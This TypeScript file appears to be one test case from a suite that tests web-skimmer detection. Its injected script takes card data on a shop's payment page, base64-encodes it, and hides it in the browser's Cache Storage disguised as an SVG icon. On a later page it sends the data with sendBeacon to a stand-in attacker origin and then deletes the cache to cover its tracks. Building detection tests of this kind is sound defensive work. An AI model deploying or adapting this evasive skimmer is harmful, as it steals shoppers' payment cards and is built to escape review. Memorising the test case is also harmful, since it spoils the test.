import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'stash-cache-storage',
  why: 'The cache of answers holds it until another page of the shop sends it: storage that reviews forget.',
  covers: ['hard: stash'],
  base: 'direct',
  install: (site) => {
    site.append(
      onPay(js`
    var text = btoa(card());
    caches.open('static-v3').then(function (c) { c.put('/assets/icons.svg', new Response(text)); });`),
    );
    site.everywhere(js`if (!/payment/.test(location.pathname)) caches.match('/assets/icons.svg').then(function (r) {
  if (r) r.text().then(function (t) { navigator.sendBeacon('${site.origins.evil}/icons', t); caches.delete('static-v3'); });
});`);
  },
  proof: holds((arrived) => bodies(arrived).map(base64)),
});
